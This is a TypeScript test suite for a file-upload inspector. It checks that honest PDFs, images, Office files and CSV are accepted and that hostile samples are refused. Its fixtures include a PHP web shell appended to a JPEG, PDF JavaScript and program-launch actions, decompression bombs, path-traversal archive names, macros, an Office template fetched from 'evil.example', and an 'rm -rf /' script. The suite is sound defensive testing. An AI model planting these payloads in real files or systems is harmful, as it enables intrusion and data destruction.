import { deflateRawSync, deflateSync } from 'node:zlib';
import { Refusal } from '@youjian/kernel';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inspectFile } from './inspect-file';
import { type Part, aJpeg, aPdf, aPng, aWebp, anOfficeFile, aZip, docxParts, xlsxParts } from './testing';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const MIB = 1024 * 1024;

const verdictOf = (bytes: Buffer, claimed: string): Promise<string> =>
  inspectFile(bytes, claimed, 'en').then(
    (type) => `taken as ${type}`,
    (error: unknown) => {
      if (!(error instanceof Refusal)) throw error;
      const { suspicion, found } = error.facts;
      return `${error.code}: ${String(suspicion ?? found)}`;
    },
  );
const text = (content: string) => Buffer.from(content, 'utf8');
const join = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));
const suspicious = (suspicion: string) => `file_suspicious: ${suspicion}`;

describe('an honest file', () => {
  it.each<[string, () => Buffer, string]>([
    ['PDF', () => aPdf(), 'application/pdf'],
    ['JPEG', () => aJpeg(), 'image/jpeg'],
    ['JPEG with a preview after it', () => join(aJpeg(), Buffer.alloc(16), aJpeg(160, 120)), 'image/jpeg'],
    ['PNG', () => aPng(), 'image/png'],
    ['WebP', () => aWebp(), 'image/webp'],
    ['workbook', () => anOfficeFile(xlsxParts()), XLSX],
    ['Word document', () => anOfficeFile(docxParts()), DOCX],
    ['CSV in UTF-8', () => text('\uFEFF编号,名称\r\nB1,金柚基地\r\n'), 'text/csv'],
    ['CSV as Excel saves it in China', () => Buffer.from('b1e0bac52cc3fbb3c60d0a', 'hex'), 'text/csv'],
    ['text', () => text('申请书\n2 < 3, and a <b> in it'), 'text/plain'],
  ])('is taken: %s', async (_, file, type) => expect(await verdictOf(file(), type)).toBe(`taken as ${type}`));

  it('made by the PDF writer of this house is taken, and so is a workbook of its sheet writer', async () => {
    const { default: PdfDocument } = await import('pdfkit');
    const pdf = new PdfDocument();
    pdf.text('Application');
    pdf.end();
    const pieces: Buffer[] = [];
    for await (const piece of pdf) pieces.push(piece as Buffer);
    expect(await verdictOf(Buffer.concat(pieces), 'application/pdf')).toBe('taken as application/pdf');
    const { default: ExcelJS } = await import('exceljs');
    const book = new ExcelJS.Workbook();
    book.addWorksheet('基地').addRow(['编号', 7]);
    expect(await verdictOf(Buffer.from(await book.xlsx.writeBuffer()), XLSX)).toBe(`taken as ${XLSX}`);
  });

  it('is refused under another type than its own', async () => {
    expect(await verdictOf(aPdf(), 'image/png')).toBe('file_type_refused: application/pdf');
    expect(await verdictOf(aJpeg(), 'application/pdf')).toBe('file_type_refused: image/jpeg');
    expect(await verdictOf(anOfficeFile(docxParts()), XLSX)).toBe(`file_type_refused: ${DOCX}`);
    expect(await verdictOf(text('a,b'), 'application/pdf')).toBe('file_type_refused: text/plain');
  });

  it.each<[string, Buffer, string]>([
    ['GIF', text('GIF89a......'), 'image/gif'],
    ['old Word', Buffer.from('d0cf11e0a1b11ae10000', 'hex'), 'application/x-ole-storage'],
    ['gzip', Buffer.from('1f8b0800000000', 'hex'), 'application/gzip'],
    ['plain zip', aZip([{ name: 'a.txt', content: 'a' }]), 'application/zip'],
    ['noise', Buffer.from([0, 1, 2, 3, 250, 251]), 'application/octet-stream'],
  ])('of a kind that is not taken is refused by its name: %s', async (_, bytes, found) =>
    expect(await verdictOf(bytes, 'application/pdf')).toBe(`file_type_refused: ${found}`),
  );
});

describe('a hostile PDF', () => {
  const hidden = (dictionary: string) => aPdf(`5 0 obj\n${dictionary}\nendobj\n`);
  it.each<[string, () => Buffer, string]>([
    ['runs a script', () => hidden('<< /S /JavaScript /JS (app.alert(1)) >>'), 'pdf_action'],
    ['spells the script with codes', () => hidden('<< /S /J#61vaScript /J#53 (1) >>'), 'pdf_action'],
    ['launches a program', () => hidden('<< /S /Launch /F (cmd.exe) >>'), 'pdf_action'],
    ['embeds a file', () => hidden('<< /Type /EmbeddedFile >>'), 'pdf_action'],
    ['submits a form', () => hidden('<< /S /SubmitForm >>'), 'pdf_action'],
    ['is encrypted', () => hidden('<< /Encrypt 7 0 R >>'), 'encrypted'],
    [
      'hides the script in a packed object',
      () => {
        const packed = deflateSync('7 0 << /S /JavaScript /JS (1) >>');
        return aPdf(
          join(`5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n`, packed, '\nendstream\nendobj\n'),
        );
      },
      'pdf_action',
    ],
    [
      'packs a bomb',
      () => {
        const packed = deflateSync(Buffer.alloc(40 * MIB));
        return aPdf(
          join(`5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n`, packed, '\nendstream\nendobj\n'),
        );
      },
      'unpacks_too_large',
    ],
    ['begins elsewhere', () => join('GIF89a', aPdf()).subarray(0), 'foreign_content'],
    ['begins after a space', () => join(' ', aPdf()), 'foreign_content'],
    ['is followed by an archive', () => join(aPdf(), aZip([{ name: 'a', content: 'a' }])), 'foreign_content'],
    ['is followed by a page', () => join(aPdf(), '<html><script>1</script>'), 'foreign_content'],
    ['is cut short', () => aPdf().subarray(0, 60), 'broken'],
  ])('%s', async (how, file, suspicion) => {
    const verdict = await verdictOf(file(), 'application/pdf');
    expect(verdict).toBe(how === 'begins elsewhere' ? 'file_type_refused: image/gif' : suspicious(suspicion));
  });
});

describe('a hostile picture', () => {
  it.each<[string, () => Buffer, string, string]>([
    ['JPEG before a page', () => join(aJpeg(), '<html><body>'), 'image/jpeg', 'foreign_content'],
    [
      'JPEG before an archive',
      () => join(aJpeg(), aZip([{ name: 'a', content: 'a' }])),
      'image/jpeg',
      'foreign_content',
    ],
    ['JPEG before PHP', () => join(aJpeg(), '<?php system($_GET[0]); ?>'), 'image/jpeg', 'foreign_content'],
    ['JPEG with PHP in its comment', () => aJpeg(640, 480, '<?php echo 1;'), 'image/jpeg', 'foreign_content'],
    ['JPEG without its end', () => aJpeg().subarray(0, -2), 'image/jpeg', 'broken'],
    ['JPEG of four milliard points', () => aJpeg(65_535, 65_535), 'image/jpeg', 'image_size'],
    ['JPEG with sides that may be, and too many points', () => aJpeg(15_000, 15_000), 'image/jpeg', 'image_size'],
    ['PNG of few points, and as long as a road', () => aPng(30_000, 10), 'image/png', 'image_size'],
    ['JPEG without height', () => aJpeg(640, 0), 'image/jpeg', 'image_size'],
    ['PNG before an archive', () => join(aPng(), aZip([{ name: 'a', content: 'a' }])), 'image/png', 'foreign_content'],
    ['PNG as wide as a town', () => aPng(2_000_000_000, 1), 'image/png', 'image_size'],
    ['WebP before a script', () => join(aWebp(), '<script>1</script>'), 'image/webp', 'foreign_content'],
    ['WebP that is shorter than it says', () => aWebp().subarray(0, -4), 'image/webp', 'broken'],
  ])('%s', async (_, file, type, suspicion) => expect(await verdictOf(file(), type)).toBe(suspicious(suspicion)));
});

/** The directory says of the first of two files that it reaches into the second. */
function overlapping(book: (more: readonly Part[]) => Buffer): Buffer {
  const file = book([
    { name: 'xl/a.xml', content: 'a' },
    { name: 'xl/b.xml', content: 'b' },
  ]);
  const packed = file.lastIndexOf('xl/a.xml') - 46 + 20;
  file.writeUInt32LE(file.readUInt32LE(packed) + 40, packed);
  return file;
}

describe('a hostile archive', () => {
  const book = (more: readonly Part[]) => anOfficeFile([...xlsxParts(), ...more]);
  it.each<[string, () => Buffer, string]>([
    [
      'unpacks to a thousand times its size',
      () => book([{ name: 'xl/a.xml', content: Buffer.alloc(8 * MIB) }]),
      'unpacks_too_large',
    ],
    [
      'is many medium files that make a mountain together',
      () => book(Array.from({ length: 9 }, (_, n) => ({ name: `xl/a${n}.xml`, content: noisy(8 * MIB) }))),
      'unpacks_too_large',
    ],
    [
      'says less than it unpacks to',
      () => book([{ name: 'xl/a.xml', content: 'x'.repeat(5000), size: 100 }]),
      'unpacks_too_large',
    ],
    [
      'says more than it unpacks to',
      () => book([{ name: 'xl/a.xml', content: 'x'.repeat(500), size: 5000 }]),
      'unpacks_too_large',
    ],
    [
      'tells the same bytes twice',
      () => anOfficeFile([...xlsxParts(), { name: 'xl/b.xml', sameAs: 'xl/workbook.xml' }]),
      'broken',
    ],
    [
      'holds more files than anybody reads',
      () => book(Array.from({ length: 2_001 }, (_, n) => ({ name: `xl/p${n}.xml`, content: 'x' }))),
      'unpacks_too_large',
    ],
    [
      'names a file twice, as only one reader would see',
      () => book([{ name: 'XL/Workbook.xml', content: 'x' }]),
      'broken',
    ],
    ['tells the bytes of one file as part of another too', () => overlapping(book), 'unpacks_too_large'],
    [
      'holds another archive',
      () => book([{ name: 'xl/inner.zip', content: aZip([{ name: 'a', content: 'a' }]) }]),
      'nested_archive',
    ],
    ['embeds an object', () => book([{ name: 'xl/embeddings/oleObject1.bin', content: 'x' }]), 'nested_archive'],
    ['climbs out with dots', () => book([{ name: '../../etc/cron.d/x.xml', content: 'x' }]), 'archive_path'],
    ['climbs out with backslashes', () => book([{ name: '..\\..\\x.xml', content: 'x' }]), 'archive_path'],
    ['names the root', () => book([{ name: '/etc/x.xml', content: 'x' }]), 'archive_path'],
    ['has macros', () => book([{ name: 'xl/vbaProject.bin', content: 'x' }]), 'macro'],
    ['declares macros', () => anOfficeFile(xlsxParts('application/vnd.ms-excel.sheet.macroEnabled.main+xml')), 'macro'],
    ['is encrypted', () => anOfficeFile(xlsxParts(), { encrypted: true }), 'encrypted'],
    ['holds a program', () => book([{ name: 'xl/run.exe', content: 'MZ' }]), 'foreign_content'],
    ['holds a page', () => book([{ name: 'xl/page.html', content: '<html>' }]), 'foreign_content'],
    [
      'loads a template from elsewhere',
      () =>
        anOfficeFile([
          ...docxParts(),
          {
            name: 'word/_rels/settings.xml.rels',
            content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>`,
          },
        ]),
      'external_link',
    ],
    ['is followed by a page', () => join(anOfficeFile(xlsxParts()), '<html>'), 'broken'],
    ['is cut short', () => anOfficeFile(xlsxParts()).subarray(0, 200), 'broken'],
    ['has nothing in it', () => aZip([]), 'broken'],
  ])('%s', async (how, file, suspicion) => {
    const claimed = how.includes('template') ? DOCX : XLSX;
    expect(await verdictOf(file(), claimed)).toBe(suspicious(suspicion));
  });

  it('may link to a page: a link is read by people', async () => {
    const linked = anOfficeFile([
      ...docxParts(),
      {
        name: 'word/_rels/document.xml.rels',
        content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.gov.cn" TargetMode="External"/></Relationships>`,
      },
    ]);
    expect(await verdictOf(linked, DOCX)).toBe(`taken as ${DOCX}`);
  });
});

describe('other hostile files', () => {
  it.each<[string, Buffer, string, string]>([
    ['empty', Buffer.alloc(0), 'application/pdf', suspicious('empty')],
    ['Windows program', text('MZ\u0090 this program'), 'application/pdf', suspicious('program')],
    ['Linux program', Buffer.from('7f454c460201', 'hex'), 'text/plain', suspicious('program')],
    ['shell script', text('#!/bin/sh\nrm -rf /'), 'text/plain', suspicious('program')],
    ['SVG', text('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'image/png', suspicious('foreign_content')],
    [
      'SVG with an XML head',
      text('<?xml version="1.0"?><svg onload="x()"/>'),
      'text/plain',
      suspicious('foreign_content'),
    ],
    ['page', text('<!doctype html><p>'), 'text/plain', suspicious('foreign_content')],
    ['page behind prose', text('a,b\n<script>alert(1)</script>'), 'text/csv', suspicious('script')],
    ['PDF behind prose', text('hello %PDF-1.4 '), 'text/plain', suspicious('foreign_content')],
  ])('%s', async (_, bytes, claimed, verdict) => expect(await verdictOf(bytes, claimed)).toBe(verdict));

  it('never breaks the reader, whatever the bytes', async () => {
    const starts = [aPdf(), aJpeg(), aPng(), aWebp(), anOfficeFile(xlsxParts())];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...starts),
        fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 12 }),
        fc.option(fc.nat(), { nil: undefined }),
        async (file, changes, cut) => {
          const bytes = Buffer.from(file);
          for (const [at, byte] of changes) bytes[at % bytes.length] = byte;
          const shown = cut === undefined ? bytes : bytes.subarray(0, cut % bytes.length);
          expect(await verdictOf(shown, 'application/pdf')).toMatch(/^(taken|file_)/);
        },
      ),
      { numRuns: 300 },
    );
  });
});

/** Packs about five to one: no bomb by itself. */
function noisy(bytes: number): Buffer {
  const line = Buffer.from(Array.from({ length: 4096 }, (_, n) => (n * 2654435761) >>> 24));
  const parts = Array.from({ length: Math.ceil(bytes / 4096) }, (_, n) =>
    n % 5 === 0 ? line.map((b) => b ^ (n & 255)) : line,
  );
  const whole = Buffer.concat(parts).subarray(0, bytes);
  return deflateRawSync(whole).length * 200 > bytes ? whole : line;
}
